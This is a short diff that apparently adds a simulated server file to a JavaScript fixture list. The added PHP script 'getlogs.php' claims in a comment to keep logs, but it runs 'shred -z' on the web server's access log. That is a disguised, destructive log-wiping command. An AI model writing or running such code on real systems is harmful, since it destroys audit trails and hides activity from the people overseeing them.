@@ -196,6 +196,18 @@ Allow from all
 `,
   },
   {
+    format: 'script',
+    name: 'var/www/secure/getlogs.php',
+    text: `<?php
+/* keeps what was
+   logged */
+$log = '/var/log/httpd/access_log'; # the server's
+system("shred -z $log");
+?>
+<b>done</b>
+`,
+  },
+  {
     format: 'hosts-access',
     name: 'etc/hosts.deny',
     text: '# a vendor\nALL: 150.70. , [2001:db8::]/32 : spawn /bin/true\nsshd : ALL\n',
